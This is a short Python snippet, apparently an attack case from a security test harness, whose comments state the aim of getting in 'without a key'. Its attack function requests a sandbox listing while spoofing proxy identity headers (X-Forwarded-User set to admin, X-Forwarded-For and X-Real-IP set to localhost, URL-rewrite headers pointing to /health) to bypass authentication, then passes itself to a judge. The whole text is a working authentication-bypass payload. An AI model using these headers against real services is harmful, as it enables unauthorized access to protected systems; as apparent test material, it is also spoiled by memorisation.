# aim: be let in without a key
# mechanism: headers by which a proxy says who asks
# server: gate
# plain: naive

def attack():
    answer = request("GET", "/v1/sandboxes", headers={"X-Forwarded-User": "admin", "X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1", "X-Original-URL": "/health", "X-Rewrite-URL": "/v1/sandboxes"})
    return answer.is_good and answer.body[:200]


judge(attack)
